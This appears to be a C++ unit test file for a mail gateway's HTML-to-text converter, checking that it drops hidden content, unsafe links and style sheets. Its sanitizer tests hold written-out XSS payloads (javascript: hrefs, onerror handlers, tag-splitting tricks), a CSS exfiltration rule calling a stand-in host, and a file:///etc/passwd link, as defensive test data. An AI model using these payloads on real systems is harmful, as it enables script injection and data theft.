#include "gateway/channels/mail/html_text.h"

#include <algorithm>
#include <string>
#include <utility>

#include <gtest/gtest.h>

#include "gateway/http/html.h"

namespace mugugno::gateway::mail {
namespace {

std::string Read(absl::string_view html) { return TextOfHtml(html).text; }

TEST(HtmlText, BlocksAreLinesAndParagraphsStandApart) {
  EXPECT_EQ(Read("<div>a</div><div>b</div>"), "a\nb");
  EXPECT_EQ(Read("<p>a<p>b</p>c"), "a\n\nb\n\nc");
  EXPECT_EQ(Read("a<br>b<br/><br>c"), "a\nb\n\nc");
  EXPECT_EQ(Read("<div>a<br></div><div><br></div><div>b</div>"), "a\n\nb");
  EXPECT_EQ(Read("  a \r\n  b&nbsp; c "), "a b c");
}

TEST(HtmlText, WhereALinkLeadsIsShown) {
  EXPECT_EQ(Read("<a href='https://x.example/a'>qui</a>."), "qui (https://x.example/a).");
  EXPECT_EQ(Read("<a href='https://x.example/'>x.example</a>"), "x.example");
  EXPECT_EQ(Read("<a href='https://altro.example/'>https://x.example/</a>"),
            "https://x.example/ (https://altro.example/)");
  EXPECT_EQ(Read("<a href='mailto:a@b.it'>a@b.it</a>"), "a@b.it");
  EXPECT_EQ(Read("<a href='https://x.example/'><img src=y></a>"), "https://x.example/");
}

TEST(HtmlText, NoOtherLinkIsShown) {
  for (const char* href : {"javascript:alert(1)", "data:text/html,x", "//x.example", "../api",
                           "JaVaScRiPt:x", " vbscript:x", "file:///etc/passwd", "cid:1"}) {
    EXPECT_EQ(Read("<a href=\"" + std::string(href) + "\">qui</a>"), "qui") << href;
  }
}

TEST(HtmlText, WhatABrowserHidesIsLeftOut) {
  EXPECT_EQ(Read("a<style>b</style><script>'</scrip'</script><title>c</title><!-- d -->e"), "ae");
  EXPECT_EQ(Read("<!--[if mso]>x<![endif]--><![if !mso]>y<![endif]>"), "y");
  EXPECT_EQ(Read("<div style='color:red; DISPLAY : none'>x<div>y</div></div>z"), "z");
  EXPECT_EQ(Read("<p style='mso-hide:all'>x<p>y"), "y");
  EXPECT_EQ(Read("<div style='max-height:0px;overflow:hidden'>x</div>y"), "y");
  EXPECT_EQ(Read("<div style='max-height:0.5em'>x</div>y"), "x\ny");
}

// S51: a style sheet could send what stands on a page elsewhere, letter by letter.
TEST(HtmlText, S51NothingOfAStyleIsLeft) {
  for (const char* html :
       {"<style>input[value^=a]{background:url(//x.example/a)}</style>a",
        "<link rel=stylesheet href='https://x.example/x.css'>a",
        "<div style='background:url(https://x.example/a)'>a</div>",
        "<style>@import 'https://x.example/x.css';</style>a", "<sTyLe\n>x</STYLE >a"}) {
    EXPECT_EQ(Read(html), "a") << html;
  }
}

// S52: tags within tags can come out as what looks like a tag. It is text, and a page shows it as
// text.
TEST(HtmlText, S52WhatLooksLikeATagAfterReadingIsTextOnAPage) {
  for (const char* html :
       {"<scr<script>ipt>alert(1)</scr</script>ipt>", "<<b>script>alert(1)<</b>/script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;img src=x onerror=a()&amp;gt;",
        "<img src=x onerror=alert(1)//", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<a href='java&#10;script:alert(1)'>x</a>", "<!--><img src=x onerror=alert(1)>-->"}) {
    const std::string page = std::move(Html().Leaf("p", {}, Read(html))).Finish();
    EXPECT_EQ(std::count(page.begin(), page.end(), '<'), 3) << page;
    EXPECT_EQ(page.find("javascript:"), std::string::npos) << page;
  }
}

TEST(HtmlText, QuotedBlocksAreMarkedLineByLine) {
  EXPECT_EQ(Read("sì<blockquote>a<br>b<blockquote>c</blockquote></blockquote>d"),
            "sì\n> a\n> b\n>> c\nd");
}

TEST(HtmlText, TheMarksOfProgramsSayWhereTheQuotedBegins) {
  const HtmlText read = TextOfHtml("<p>sì</p><div id='x_divRplyFwdMsg'>Da: Comune</div>");
  EXPECT_EQ(read.text.substr(read.quoted_at), "Da: Comune");
  const HtmlText word = TextOfHtml(
      "sì<div style='border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt'><b>Da:</b> C</div>");
  EXPECT_EQ(word.text.substr(word.quoted_at), "Da: C");
  EXPECT_EQ(TextOfHtml("<p>sì</p>").quoted_at, std::string::npos);
}

TEST(HtmlText, ReferencesAreReadAsBrowsersDo) {
  EXPECT_EQ(Read("&egrave;&#232;&#xE8;&#128;&hellip;&amp;lt;"), "èèè€…&lt;");
  EXPECT_EQ(Read("&#xD800;&#0;&#99999999;"), "\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD");
  EXPECT_EQ(Read("a & b &pippo; &"), "a & b &pippo; &");
}

TEST(HtmlText, WhatIsNoTagIsText) {
  EXPECT_EQ(Read("1 < 2 > 0 <3"), "1 < 2 > 0 <3");
  EXPECT_EQ(Read("<b>aperto"), "aperto");
  EXPECT_EQ(Read("</div></p>a"), "a");
}

TEST(HtmlText, DepthAndLengthAreNoTrouble) {
  std::string deep;
  for (int i = 0; i < 100000; ++i) deep += "<div><a href=";
  EXPECT_EQ(Read(deep), "");
  std::string open;
  for (int i = 0; i < 50000; ++i) open += "<b>";
  EXPECT_EQ(Read(open + "in fondo"), "in fondo");
  EXPECT_EQ(Read(std::string(1000000, '<')).size(), 1000000u);
  EXPECT_EQ(Read(std::string(1000000, '&')).size(), 1000000u);
}

}  // namespace
}  // namespace mugugno::gateway::mail
